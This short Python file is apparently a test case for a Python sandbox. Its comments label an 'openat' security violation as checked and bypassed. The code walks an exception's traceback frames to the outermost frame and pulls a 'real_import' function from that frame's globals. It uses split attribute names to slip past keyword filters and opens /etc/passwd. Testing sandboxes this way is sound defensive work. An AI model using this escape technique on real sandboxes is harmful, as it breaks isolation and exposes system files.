# Takes the frame of an exception's traceback.
# checked: security_violation openat
# bypassed: security_violation openat
try:
    1 / 0
except ZeroDivisionError as error:
    frame = getattr(getattr(error, '__trace' + 'back__'), 'tb_' + 'frame')
while getattr(frame, 'f_' + 'back'):
    frame = getattr(frame, 'f_' + 'back')
getattr(frame, 'f_' + 'globals')['real_import']('posix').open('/etc/passwd', 0)
